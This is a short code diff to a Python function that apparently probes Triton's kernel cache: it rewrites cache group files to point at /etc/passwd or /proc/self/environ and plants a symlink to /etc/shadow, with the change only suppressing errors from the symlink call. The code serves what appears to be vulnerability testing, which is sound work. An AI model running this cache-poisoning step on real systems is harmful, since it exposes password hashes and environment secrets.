@@ -707,7 +707,8 @@ def repoint_cache():
             paths[name] = "/etc/passwd" if name.endswith(".json") else "/proc/self/environ"
         with open(path, "w") as f:
             json.dump(group, f)
-        os.symlink("/etc/shadow", os.path.join(os.path.dirname(path), "planted.cubin"))
+        with contextlib.suppress(OSError):  # one link per entry
+            os.symlink("/etc/shadow", os.path.join(os.path.dirname(path), "planted.cubin"))
         changed += 1
     if changed:
         reached(f"pointed {changed} Triton cache group file(s) outside the cache")
